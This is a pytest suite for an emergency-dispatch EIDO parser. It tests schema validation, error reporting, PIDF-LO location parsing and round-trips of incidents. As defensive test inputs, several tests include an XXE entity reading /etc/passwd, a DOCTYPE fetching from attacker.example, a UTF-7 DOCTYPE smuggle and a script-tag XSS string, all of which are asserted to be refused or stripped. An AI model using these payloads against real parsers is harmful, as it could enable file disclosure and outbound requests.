"""EIDO in and out: the NENA sample validates and maps, bad documents are refused with a path
and a reason, hub incidents round-trip through valid EIDO."""

from __future__ import annotations

import json
import threading
from datetime import datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import pytest
from nabat.interfaces import GeoPoint, Incident, IncidentStatus
from nabat_system112 import eido
from nabat_system112.eido import (
    MAX_EIDO_BYTES,
    EidoError,
    EidoIncident,
    EidoProblem,
    incident_from_eido,
    incident_to_eido,
    parse_eido,
)

SAMPLE = Path(__file__).resolve().parents[2] / "data" / "eido" / "sample-call-transfer.json"
MSK = timezone(timedelta(hours=3))
STAMP = "2021-04-30T14:40:00.0-04:00"


@pytest.fixture
def sample() -> dict[str, Any]:
    return json.loads(SAMPLE.read_bytes())


def problems(doc: Any) -> list[EidoProblem]:
    body = doc if isinstance(doc, bytes) else json.dumps(doc).encode()
    with pytest.raises(EidoError) as caught:
        parse_eido(body)
    assert caught.value.problems, "an EidoError always names its problems"
    return caught.value.problems


def prologue(id_: str) -> dict[str, Any]:
    return {"$id": id_, "lastUpdateTimeStamp": STAMP, "updatedByAgencyReference": {"$ref": "a"}}


def location(id_: str, kind: str, xml: str) -> dict[str, Any]:
    return {**prologue(id_), "locationTypeDescriptionRegistryText": kind, "locationByValue": xml}


def pidf(inner: str) -> str:
    return (
        '<presence xmlns="urn:ietf:params:xml:ns:pidf" '
        'xmlns:gp="urn:ietf:params:xml:ns:pidf:geopriv10" xmlns:gml="http://www.opengis.net/gml" '
        'xmlns:gs="http://www.opengis.net/pidflo/1.0" entity="pres:x@example.com"><tuple id="t">'
        f"<status><gp:geopriv><gp:location-info>{inner}</gp:location-info></gp:geopriv></status>"
        "</tuple></presence>"
    )


def test_the_nena_sample_validates_and_maps(sample: dict[str, Any]) -> None:
    doc = parse_eido(SAMPLE.read_bytes())
    assert doc == sample
    mapped = incident_from_eido(doc)
    assert isinstance(mapped, EidoIncident)
    assert mapped.external_id == "urn:emergency:uid:incidentid:a56e556d871:bcf.state.pa.us"
    assert mapped.updated_at == datetime.fromisoformat("2021-04-30T14:43:49.439-04:00")
    assert not mapped.closed
    incident = mapped.incident
    assert incident.caller == "8195551212"  # the tel: URI wins over the sip: one before it
    assert incident.address is not None and "Wilmington" in incident.address
    assert incident.address == "US, DE, Wilmington, W Cellular Street, 42"
    assert incident.reported_at == datetime.fromisoformat(STAMP)
    assert incident.reported_at.utcoffset() == timedelta(hours=-4)
    assert incident.type is None and incident.title is None  # no incidentComponent at all
    assert incident.status is IncidentStatus.OPEN
    assert incident.location is None  # the Caller location is by reference only
    assert incident.services == []  # the PSAP is no responding service
    assert incident.victims == 0  # one person, the caller
    assert incident.origin is None
    assert incident.external_id == mapped.external_id


def test_the_upstream_minitems_typo_is_enforced_as_1(sample: dict[str, Any]) -> None:
    # openapi.yaml line 218: AgentType.agentRoleRegistryText has "minItems: 1," (a string).
    sample["agentComponent"][0]["agentRoleRegistryText"] = []
    assert problems(sample) == [
        EidoProblem("$.agentComponent[0].agentRoleRegistryText", "must have at least 1 item")
    ]


@pytest.mark.parametrize(
    ("change", "path", "reason"),
    [
        (lambda d: d.pop("eidoVersion"), "$.eidoVersion", "required but missing"),
        (lambda d: d.update(eidoVersion="2.0"), "$.eidoVersion", 'must be one of "1.0"'),
        (lambda d: d.pop("$id"), "$.$id", "required but missing"),
        (lambda d: d.update({"$id": " "}), "$.$id", "must not be empty"),
        (
            lambda d: d["locationComponent"][1].update(lastUpdateTimeStamp=20210430),
            "$.locationComponent[1].lastUpdateTimeStamp",
            "must be of type string, not 20210430",
        ),
        (
            lambda d: d["callComponent"][0].update(callStartTimestamp="2021-04-30 14:40"),
            "$.callComponent[0].callStartTimestamp",
            "is not a valid date-time",
        ),
        (
            # "$ref" is a property name in EIDO, not a JSON-Schema keyword: it is type-checked.
            lambda d: d["updatedByAgencyReference"].update({"$ref": ["state.pa.us"]}),
            "$.updatedByAgencyReference.$ref",
            "must be of type string",
        ),
        (
            lambda d: d["updatedByAgencyReference"].pop("$ref"),
            "$.updatedByAgencyReference.$ref",
            "required but missing",
        ),
        (
            lambda d: d["personComponent"][0].update(ncPersonComponent={"birthDate": "1990"}),
            "$.personComponent[0].ncPersonComponent.birthDate",  # into the NIEM files
            "must be of type array",
        ),
    ],
)
def test_invalid_documents_name_path_and_reason(
    sample: dict[str, Any], change: Any, path: str, reason: str
) -> None:
    change(sample)
    found = problems(sample)
    assert [p.path for p in found] == [path]
    assert reason in found[0].reason
    assert str(found[0]) == f"{path}: {found[0].reason}"


def test_openapi_30_semantics() -> None:
    # Siblings of $ref are ignored (the shipped files only put descriptions there).
    schema = {"definitions": {"o": {"type": "object"}}, "items": {"$ref": "#/definitions/o"}}
    schema["items"]["type"] = "array"
    assert eido._Validator(schema).is_valid([{}])
    # nullable: no shipped schema says it today; the validator honours it all the same.
    nullable = eido._Validator({"type": "string", "enum": ["a"], "nullable": True})
    assert nullable.is_valid(None) and nullable.is_valid("a") and not nullable.is_valid(1)
    assert not eido._Validator({"type": "string"}).is_valid(None)


def test_the_schema_loads_once_however_many_threads_ask(monkeypatch: pytest.MonkeyPatch) -> None:
    calls = []
    load = eido._load

    def counting_load() -> Any:
        calls.append(1)
        return load()

    monkeypatch.setattr(eido, "_validator", None)
    monkeypatch.setattr(eido, "_load", counting_load)
    barrier = threading.Barrier(8)
    got: list[Any] = []

    def ask() -> None:
        barrier.wait()
        got.append(eido._schema_validator())

    threads = [threading.Thread(target=ask) for _ in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert len(calls) == 1 and len(got) == 8 and all(v is got[0] for v in got)


def test_incident_references_must_name_components_in_the_document(
    sample: dict[str, Any],
) -> None:
    sample["incidentComponent"] = {
        **prologue("inc-1"),
        "incidentTypeCommonRegistryText": "Fire",
        "locationReference": [
            {"$ref": "123e4567-beef-12d3-a456-426614174000"},
            {"$ref": "no-such-location"},
        ],
        "notesReference": [{"$ref": "no-such-note"}],
    }
    found = problems(sample)
    assert [str(p) for p in found] == [
        "$.incidentComponent.locationReference[1].$ref: no locationComponent with $id "
        "'no-such-location' in the document",
        "$.incidentComponent.notesReference[0].$ref: no notesComponent with $id "
        "'no-such-note' in the document",
    ]


def test_all_problems_are_reported_up_to_a_limit(sample: dict[str, Any]) -> None:
    sample["eidoVersion"] = "2.0"
    sample["locationComponent"][0]["lastUpdateTimeStamp"] = 1
    sample["agentComponent"][0]["agentRoleRegistryText"] = []
    found = problems(sample)
    assert len(found) == 3
    message = str(EidoError(found))
    assert message.startswith("EIDO rejected: 3 problems: ")
    assert "$.eidoVersion: must be one of" in message

    sample["callbackComponent"] = [{"$id": i} for i in range(500)]  # 1500 problems
    found = problems(sample)
    assert len(found) == 20
    assert str(EidoError(found)).count("; ") == 3  # the summary shows the first three


def test_non_json_is_refused_with_line_and_column() -> None:
    found = problems(b'{\n  "$id": "x",\n  "eidoVersion": 1.0,,\n}')
    assert found == [
        EidoProblem(
            "$",
            "not valid JSON: Expecting property name enclosed in double quotes "
            "at line 3, column 22",
        )
    ]
    assert problems(b'{"$id": "\xff"}') == [
        EidoProblem("$", "not UTF-8 text: invalid start byte at byte 9")
    ]
    assert "NaN is not a JSON number" in problems(b'{"$id": NaN}')[0].reason


def test_a_json_array_is_refused(sample: dict[str, Any]) -> None:
    assert problems([sample]) == [EidoProblem("$", "an EIDO is a JSON object, not an array")]
    assert problems(b"null") == [EidoProblem("$", "an EIDO is a JSON object, not null")]


def test_oversize_is_refused_before_parsing() -> None:
    body = b"[" + b" " * MAX_EIDO_BYTES + b"]"
    assert problems(body) == [
        EidoProblem("$", "the document is 1,000,002 bytes, over the limit of 1,000,000")
    ]


def test_deep_nesting_is_refused(sample: dict[str, Any]) -> None:
    nested: dict[str, Any] = {}
    sample["personComponent"][0]["ncPersonComponent"] = nested
    for _ in range(40):
        nested["injury"] = [{}]
        nested = nested["injury"][0]
    assert problems(sample) == [EidoProblem("$", "nested more than 32 levels deep")]
    assert problems(b"[" * 100_000 + b"]" * 100_000)[0].path == "$"


@pytest.mark.parametrize(
    "xml",
    [
        '<?xml version="1.0"?><!DOCTYPE p [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        + pidf(
            "<civicAddress xmlns='urn:ietf:params:xml:ns:pidf:geopriv10:civicAddr'>"
            "<A3>&xxe;</A3></civicAddress>"
        ),
        '<!DOCTYPE presence SYSTEM "http://attacker.example/pidf.dtd">' + pidf(""),
    ],
)
def test_a_doctype_in_location_by_value_is_refused(sample: dict[str, Any], xml: str) -> None:
    sample["locationComponent"][0]["locationByValue"] = xml
    [problem] = problems(sample)
    assert problem.path == "$.locationComponent[0].locationByValue"
    assert "DOCTYPE" in problem.reason
    with pytest.raises(EidoError):  # and the mapping alone refuses it too
        incident_from_eido(sample)


@pytest.mark.parametrize(
    ("xml", "reason"),
    [
        ("<presence><unclosed></presence>", "not well-formed PIDF-LO XML"),
        (pidf("<gml:Point><gml:pos>95.0 10.0</gml:pos></gml:Point>"), "is not a WGS 84"),
        (pidf("<gml:Point><gml:pos>north</gml:pos></gml:Point>"), "is not a WGS 84"),
        (pidf('<gml:Point srsName="EPSG:3857"><gml:pos>1 2</gml:pos></gml:Point>'), "WGS 84"),
    ],
)
def test_unreadable_pidf_lo_is_refused(sample: dict[str, Any], xml: str, reason: str) -> None:
    sample["locationComponent"][1]["locationByValue"] = xml
    [problem] = problems(sample)
    assert problem.path == "$.locationComponent[1].locationByValue"
    assert reason in problem.reason


def test_pidf_lo_text_is_read_as_unicode_whatever_it_declares(sample: dict[str, Any]) -> None:
    civic = (
        "<civicAddress xmlns='urn:ietf:params:xml:ns:pidf:geopriv10:civicAddr'><country>RU"
        "</country><A3>Сочи</A3><RD>Курортный</RD><STS>проспект</STS><HNO>50</HNO></civicAddress>"
    )
    declared = '<?xml version="1.0" encoding="ISO-8859-1"?>' + pidf(civic)
    sample["locationComponent"][0]["locationByValue"] = declared
    incident = incident_from_eido(parse_eido(json.dumps(sample).encode())).incident
    assert incident.address == "RU, Сочи, Курортный проспект, 50"
    utf7 = '<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE p+AD4-' + pidf("")
    sample["locationComponent"][0]["locationByValue"] = utf7  # read as UTF-8: no DOCTYPE
    assert "not well-formed PIDF-LO XML" in problems(sample)[0].reason


def test_mapping_prefers_the_incident_location_and_reads_shapes(sample: dict[str, Any]) -> None:
    point = pidf("<gml:Point><gml:pos>45.1 38.9</gml:pos></gml:Point>")
    circle = pidf(
        '<gs:Circle srsName="urn:ogc:def:crs:EPSG::4326"><gml:pos>55.75 37.62</gml:pos>'
        '<gs:radius uom="urn:ogc:def:uom:EPSG::9001">850</gs:radius></gs:Circle>'
    )
    sample["locationComponent"][1]["locationByValue"] = point  # the Caller's
    sample["locationComponent"].append(location("inc-loc", "incident", circle))
    sample["locationComponent"][-1]["locationDescriptionText"] = "у входа в метро"
    incident = incident_from_eido(parse_eido(json.dumps(sample).encode())).incident
    assert incident.location == GeoPoint(55.75, 37.62)
    assert incident.address == "у входа в метро"  # the Incident location's, not Wilmington


def test_mapping_reads_incident_notes_people_services_and_status(sample: dict[str, Any]) -> None:
    sample["incidentComponent"] = {
        **prologue("inc-1"),
        "incidentTypeCommonRegistryText": "Fire.Structure",
        "incidentTypeInternalText": "Пожар в жилом доме",
        "incidentStatusInternalText": ["Закрыта"],
    }
    sample["notesComponent"] = [
        {
            **prologue("n1"),
            "notesActionComments": "<p>Smoke on the <b>3rd</b> floor</p>"
            "<script>alert(1)</script><p>Caller &amp; family &lt;outside&gt;</p>",
        },
        {**prologue("n2"), "notesActionComments": "Дверь закрыта<br/>Нужна лестница"},
    ]
    sample["personComponent"] += [
        {**prologue("p2"), "personIncidentRoleRegistryText": ["Victim"]},
        {**prologue("p3"), "personIncidentRoleRegistryText": ["Witness", "patient"]},
    ]
    sample["agencyComponent"] += [
        {
            **prologue("f"),
            "agencyRoleDescriptionRegistryText": ["x"],
            "agencyType": ["fire.forest"],
        },
        {**prologue("p"), "agencyRoleDescriptionRegistryText": ["x"], "agencyType": ["police"]},
        {
            **prologue("s"),
            "agencyRoleDescriptionRegistryText": ["x"],
            "agencyType": ["alarm_systems"],
        },
    ]
    sample["emergencyResourceComponent"] = [
        {
            **prologue("r1"),
            "agentReference": [],
            "emergencyResourceTypeCommonRegistryText": "Ambulance",
            "primaryUnitStatusRegistryText": "x",
            "resourceAttributeRegistryText": [],
            "secondaryUnitStatusRegistryText": [],
        },
    ]
    mapped = incident_from_eido(parse_eido(json.dumps(sample).encode()))
    incident = mapped.incident
    assert mapped.closed and incident.status is IncidentStatus.CLOSED
    assert incident.type == "Fire.Structure"
    assert incident.title == "Пожар в жилом доме"
    assert incident.description == (
        "Smoke on the 3rd floor\nCaller & family <outside>\nДверь закрыта\nНужна лестница"
    )
    assert incident.victims == 2
    assert incident.services == ["01", "02", "03"]  # "alarm_systems" is no EMS


def hub_incident() -> Incident:
    return Incident(
        status=IncidentStatus.OPEN,
        title="ДТП с пострадавшими",
        type="traffic_accident",
        description="Столкновение двух автомобилей.\nОдин водитель зажат <в салоне> & без сознания",
        reported_at=datetime(2025, 3, 1, 9, 15, tzinfo=MSK),
        caller="+79001234567",
        address="г. Краснодар, ул. Красная, 1",
        location=GeoPoint(45.0355, 38.9753),
        victims=2,
        services=["02", "03"],
    )


def eido_of(incident: Incident, **kwargs: Any) -> dict[str, Any]:
    return incident_to_eido(
        incident,
        incident_id="inc-42",
        issuer="nabat.krasnodar.example",
        agency="edds.krasnodar.example",
        updated_at=datetime(2025, 3, 1, 9, 20, 30, tzinfo=MSK),
        **kwargs,
    )


def same(a: Incident, b: Incident) -> None:
    for field in ("status", "type", "description", "caller", "address", "location", "victims"):
        assert getattr(a, field) == getattr(b, field), field
    assert sorted(a.services) == b.services
    if a.title is not None:
        assert a.title == b.title


def test_an_open_incident_with_everything_round_trips() -> None:
    incident = hub_incident()
    doc = eido_of(incident, municipality="Краснодар")
    body = json.dumps(doc, ensure_ascii=False).encode()
    mapped = incident_from_eido(parse_eido(body))  # the output validates
    same(incident, mapped.incident)
    assert mapped.external_id == "urn:emergency:uid:incidentid:inc-42:edds.krasnodar.example"
    assert doc["$id"] == mapped.external_id == mapped.incident.external_id
    assert mapped.updated_at == datetime(2025, 3, 1, 9, 20, 30, tzinfo=MSK)
    assert doc["lastUpdateTimeStamp"] == "2025-03-01T09:20:30+03:00"
    assert doc["updatedByAgencyReference"] == {"$ref": "edds.krasnodar.example"}
    assert doc["issuingElementIdentification"] == "nabat.krasnodar.example"
    assert doc["incidentComponent"]["incidentStatusCommonRegistryText"] == ["Active"]
    assert doc["incidentComponent"]["internalIncidentId"] == "inc-42"
    assert doc["incidentComponent"]["beatOrDispatchGroupText"] == "Краснодар"
    assert doc["locationComponent"][0]["locationTypeDescriptionRegistryText"] == "Incident"
    assert not mapped.closed
    assert eido_of(incident, municipality="Краснодар") == doc  # deterministic component ids


def test_a_closed_incident_with_only_a_type_round_trips() -> None:
    incident = Incident(status=IncidentStatus.CLOSED, type="fire")
    doc = eido_of(incident)
    mapped = incident_from_eido(parse_eido(json.dumps(doc).encode()))
    same(incident, mapped.incident)
    assert mapped.closed
    assert mapped.incident.title == "fire"  # no title of its own: the type stands in
    assert doc["incidentComponent"]["incidentStatusCommonRegistryText"] == ["Closed"]
    assert set(doc) >= {"$id", "eidoVersion", "agencyComponent", "incidentComponent"}
    assert "locationComponent" not in doc and "personComponent" not in doc


@pytest.mark.parametrize(
    "incident",
    [
        Incident(),
        Incident(title="Задымление", victims=0),
        Incident(address="ул. Северная, 5", caller="sip:112@example.ru", services=["04", "01"]),
        Incident(location=GeoPoint(-33.8688, 151.2093), description="a\n\nb"),
    ],
)
def test_partial_incidents_round_trip(incident: Incident) -> None:
    mapped = incident_from_eido(parse_eido(json.dumps(eido_of(incident)).encode())).incident
    same(incident, mapped)


def test_incident_to_eido_refuses_what_it_cannot_send() -> None:
    with pytest.raises(ValueError, match="timezone-aware"):
        incident_to_eido(
            Incident(), incident_id="1", issuer="i", agency="a", updated_at=datetime(2025, 1, 1)
        )
    with pytest.raises(ValueError, match="unknown service"):
        eido_of(Incident(services=["05"]))
    with pytest.raises(ValueError, match="must not be empty"):
        incident_to_eido(
            Incident(), incident_id="", issuer="i", agency="a", updated_at=datetime.now(MSK)
        )
